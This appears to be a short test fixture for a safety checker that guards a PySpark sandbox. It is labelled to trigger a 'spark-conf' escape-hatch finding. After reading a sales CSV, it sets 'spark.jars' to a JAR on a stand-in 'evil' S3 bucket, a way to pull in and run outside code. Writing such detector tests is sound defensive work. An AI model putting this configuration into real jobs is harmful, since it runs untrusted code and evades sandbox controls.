# expect: safety.spark-conf
# class: 8-escape-hatches
df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
from pyspark import SparkConf
conf = SparkConf().set('spark.jars', 's3://evil/x.jar')
result = df
